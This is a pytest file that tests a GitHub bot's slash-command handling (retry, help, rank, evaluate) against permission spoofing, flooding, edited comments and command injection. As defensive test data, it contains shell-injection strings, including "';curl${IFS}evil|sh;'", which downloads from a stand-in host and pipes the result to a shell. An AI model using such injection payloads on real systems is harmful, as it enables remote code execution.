import pytest

from scripts.console import CommandError
from scripts.github.pull_request import slash_commands
from scripts.github.pull_request.slash_commands import SlashCommand, parse_command
from tests.github.world import BOT
from tests.leaderboard import make
from tests.scripts.github.scenes import POLE, Scene, commented, previewed

ALICE, EVE, HOST = ("alice", 11), ("eve", 66), ("host", 1)


def say(scene: Scene, body: str, author: tuple[str, int] = ALICE, **fields: object) -> list[str]:
    """Somebody comments on pull request 7; returns the reactions that it got."""
    written = scene.world.comment(7, author[0], body)
    assert (
        slash_commands.run_slash_command(scene.context("issue_comment", commented(7, written.id, body, author, **fields)))
        == 0
    )
    return written.reactions


@pytest.fixture
def sha(scene: Scene) -> str:
    """Alice's pull request, with a preview that timed out."""
    sha = scene.bring()
    scene.ran(31, content=previewed(scene, sha, returns=(), verdict="timeout"))
    return sha


@pytest.mark.attack(
    "command_in_a_quote", family="bot", outcome="no command",
    tries="Hides a command in a quotation, behind words or in a later line.",
)  # fmt: skip
@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("/retry", SlashCommand(name="retry")),
        ("/help \r\nthank you", SlashCommand(name="help")),
        (f"/evaluate {'a' * 40}", SlashCommand(name="evaluate", argument="a" * 40)),
        ("/evaluate", SlashCommand(name="evaluate")),
        ("/retry now", None),
        (" /retry", None),
        ("> /retry", None),
        ("please /retry", None),
        ("/Retry", None),
        ("/retryy", None),
        ("/shrug", None),
        ("/evaluate a b", None),
        ("/evaluate " + "a" * 101, None),
        ("/evaluate $(touch${IFS}x)", SlashCommand(name="evaluate", argument="$(touch${IFS}x)")),
        ("", None),
        ("\n/retry", None),
        ("/rank\x00", None),
    ],
)
def test_only_a_first_line_that_is_a_command_is_one(body: str, expected: SlashCommand | None) -> None:
    assert parse_command(body) == expected


@pytest.mark.attack(
    "flood_of_commands", family="bot", outcome="the official run keeps its requests",
    tries="Asks for a retry again and again, until the hour has no request left for anybody.",
)  # fmt: skip
def test_commands_leave_requests_for_the_official_run(scene: Scene, capsys: pytest.CaptureFixture[str]) -> None:
    scene.bring()
    scene.world.left["graphql"] = slash_commands.COMMANDS_LEAVE_POINTS + 50
    for _ in range(100):
        say(scene, "/retry", EVE)

    assert slash_commands.COMMANDS_LEAVE_POINTS - 3 < scene.world.left["graphql"] < slash_commands.COMMANDS_LEAVE_POINTS
    assert "write the command again in an hour" in capsys.readouterr().err
    scene.world.left["graphql"] = 1000
    assert say(scene, "/help") == ["+1"]


@pytest.mark.attack(
    "flood_of_answers", family="bot", outcome="most of the hour's comments are left for reports",
    tries="Asks for help again and again, until GitHub takes no comment of the bot any more in that hour.",
)  # fmt: skip
def test_answers_leave_comments_for_reports(scene: Scene, sha: str) -> None:
    scene.world.left["graphql"] = 1000 - slash_commands.ANSWERS_POINTS + 50
    for _ in range(40):
        say(scene, "/help", EVE)

    assert len(scene.bodies()) < 30
    assert scene.world.left["core"] == 1000
    assert say(scene, "/rank") == ["confused"]
    assert say(scene, f"/evaluate {sha}", HOST) == ["rocket"]


def test_in_an_hour_without_requests_questions_are_answered_and_nothing_is_started(scene: Scene, sha: str) -> None:
    scene.world.left["core"] = slash_commands.COMMANDS_LEAVE_REQUESTS - 1

    assert say(scene, "/help") == ["+1"]
    assert say(scene, "/rank", EVE) == ["+1"]
    assert say(scene, "/retry") == ["confused"]
    assert say(scene, f"/evaluate {sha}", HOST) == ["confused"]
    assert (scene.world.reruns, scene.world.dispatched) == ([], [])
    assert scene.world.left["core"] == slash_commands.COMMANDS_LEAVE_REQUESTS - 1


def test_an_answer_that_github_refuses_fails_the_job(scene: Scene, sha: str) -> None:
    event = commented(7, scene.world.comment(7, "alice", "/help").id, "/help", ALICE)
    scene.world.comments.clear()

    with pytest.raises(CommandError, match="refused an answer"):
        slash_commands.run_slash_command(scene.context("issue_comment", event))


@pytest.mark.parametrize("body", ["nice agent!", "/merge", "/retry please, it was so close"])
def test_what_is_no_command_is_left_alone(scene: Scene, sha: str, body: str) -> None:
    assert say(scene, body) == []
    assert scene.standin.calls == []


def test_help_is_answered(scene: Scene, sha: str) -> None:
    assert say(scene, "/help", EVE) == ["+1"]
    (answer,) = scene.bodies()
    assert answer.startswith("<!-- pullrank:reply run=500 -->")
    assert "/retry" in answer


def test_rank_says_where_the_authors_agents_stand(scene: Scene, sha: str) -> None:
    scene.merge()
    scene.record(make.result(scene.entry(scene.clone.head), (9.0, 11.0), on=POLE))

    assert say(scene, "/rank", EVE) == ["+1"]
    assert "Current places of your agents" in scene.bodies()[0]
    assert "CartPole" in scene.bodies()[0]


def test_retry_by_the_author_runs_the_preview_again(scene: Scene, sha: str) -> None:
    assert say(scene, "/retry") == ["rocket"]
    assert scene.world.reruns == [31]
    assert scene.standin.writes() == ["POST /actions/runs/31/rerun", f"POST /statuses/{sha}", "addReaction"]


def test_retry_by_a_maintainer_is_obeyed(scene: Scene, sha: str) -> None:
    assert say(scene, "/retry", HOST) == ["rocket"]


def test_retry_where_it_cannot_help_is_declined(scene: Scene, sha: str) -> None:
    scene.world.runs[31].artifacts["preview"] = previewed(scene, sha, returns=(), verdict="crashed")

    assert say(scene, "/retry") == ["-1"]
    assert scene.world.reruns == []


def test_retry_of_a_run_that_failed_on_our_side(scene: Scene, sha: str) -> None:
    scene.world.runs[31].conclusion = "failure"
    scene.world.runs[31].attempt = 4

    assert say(scene, "/retry") == ["rocket"]


def test_retry_has_an_end(scene: Scene, sha: str) -> None:
    scene.world.runs[31].attempt = 10

    assert say(scene, "/retry") == ["-1"]


def test_retry_while_it_is_played_is_seen(scene: Scene, sha: str) -> None:
    scene.world.runs[31].conclusion = None

    assert say(scene, "/retry") == ["eyes"]
    assert scene.world.reruns == []


@pytest.mark.attack(
    "retry_instead_of_approval", family="bot", outcome="declined",
    tries="Asks for another try instead of waiting for a maintainer's approval.",
)  # fmt: skip
def test_retry_of_a_run_that_waits_for_approval_is_no_way_round_it(scene: Scene, sha: str) -> None:
    scene.world.runs[31].conclusion = "action_required"

    assert say(scene, "/retry") == ["-1"]
    assert scene.world.reruns == []


def test_retry_without_a_run_and_on_a_closed_pull_request(scene: Scene, sha: str) -> None:
    del scene.world.runs[31]
    assert say(scene, "/retry") == ["-1"]

    scene.world.pulls[7].state = "closed"
    assert say(scene, "/retry") == ["-1"]


def test_retry_that_github_refuses_is_seen(scene: Scene, sha: str) -> None:
    scene.world.go_wrong("POST", "/rerun$", status=403, message="Unable to retry this workflow run")

    assert say(scene, "/retry") == ["eyes"]


@pytest.mark.parametrize("level", ["admin", "write"])
def test_evaluate_dispatches_mains_own_workflow(scene: Scene, sha: str, level: str) -> None:
    scene.world.permissions["eve"] = level

    assert say(scene, f"/evaluate {sha}", EVE) == ["rocket"]
    assert scene.world.dispatched == [{"workflow": "evaluate.yml", "ref": "main", "inputs": {"pull": "7", "sha": sha}}]


# Attacks


@pytest.mark.attack(
    "evaluate_by_anybody", family="bot", outcome="declined",
    tries="Asks for a verified run without being a maintainer.",
)  # fmt: skip
@pytest.mark.parametrize("level", ["read", "none"])
def test_attack_15_evaluate_by_anyone_is_declined(scene: Scene, sha: str, level: str) -> None:
    scene.world.permissions["alice"] = level

    assert say(scene, f"/evaluate {sha}") == ["-1"]
    assert scene.world.dispatched == []


@pytest.mark.attack(
    "claimed_association", family="bot", outcome="GitHub is asked, and it is declined",
    tries="Relies on an event that calls the commenter an owner.",
)  # fmt: skip
def test_attack_15_a_claimed_association_is_no_permission(scene: Scene, sha: str) -> None:
    """`author_association` in the payload says OWNER throughout these tests."""
    assert say(scene, f"/evaluate {sha}", EVE) == ["-1"]
    assert "GET /collaborators/eve/permission" in scene.standin.made()


@pytest.mark.attack(
    "retry_by_a_stranger", family="bot", outcome="declined",
    tries="Asks for another try of somebody else's preview.",
)  # fmt: skip
def test_attack_15_retry_by_a_stranger_is_declined(scene: Scene, sha: str) -> None:
    assert say(scene, "/retry", EVE) == ["-1"]
    assert scene.world.reruns == []


@pytest.mark.attack(
    "command_by_who_took_the_login", family="people", outcome="declined",
    tries="Registers a login that its author gave up, and commands the bot in the author's pull request.",
)  # fmt: skip
def test_attack_15_an_account_that_took_the_authors_login_is_a_stranger(scene: Scene, sha: str) -> None:
    assert say(scene, "/retry", ("alice", 999)) == ["-1"]


@pytest.mark.attack(
    "edited_comment", family="bot", outcome="no command",
    tries="Edits an old comment of a maintainer into a command.",
)  # fmt: skip
def test_attack_15_an_edited_comment_is_no_command(scene: Scene, sha: str) -> None:
    assert say(scene, f"/evaluate {sha}", HOST, action="edited") == []
    assert scene.standin.calls == []


@pytest.mark.attack(
    "command_by_a_bot", family="bot", outcome="no command",
    tries="Lets another bot, or an issue that is no pull request, command the bot.",
)  # fmt: skip
def test_attack_15_bots_and_plain_issues_are_ignored(scene: Scene, sha: str) -> None:
    assert say(scene, "/retry", (BOT, 41898282), kind="Bot") == []
    assert say(scene, "/retry", issue={"number": 7}) == []
    assert scene.standin.calls == []


@pytest.mark.attack(
    "push_after_the_review", family="bot", outcome="declined unless it names the commit",
    tries="Pushes other code after a maintainer looked and before the command.",
)  # fmt: skip
def test_attack_5_evaluate_names_the_commit_that_was_looked_at(scene: Scene, sha: str) -> None:
    scene.bring(source=b"x = 'a later push'\n")

    for words in (sha, sha[:7], "HEAD", "main", sha.upper(), ""):
        assert say(scene, f"/evaluate {words}".strip(), HOST) == ["-1"]
    assert scene.world.dispatched == []


@pytest.mark.attack(
    "shell_in_a_command", family="bot", outcome="declined, never part of a request",
    tries="Writes a shell command as the argument of the bot's command.",
)  # fmt: skip
def test_attack_8_what_was_typed_never_reaches_a_request(scene: Scene, sha: str) -> None:
    assert say(scene, "/evaluate ';curl${IFS}evil|sh;'", HOST) == ["-1"]
    assert "evil" not in "".join(map(repr, scene.standin.calls))
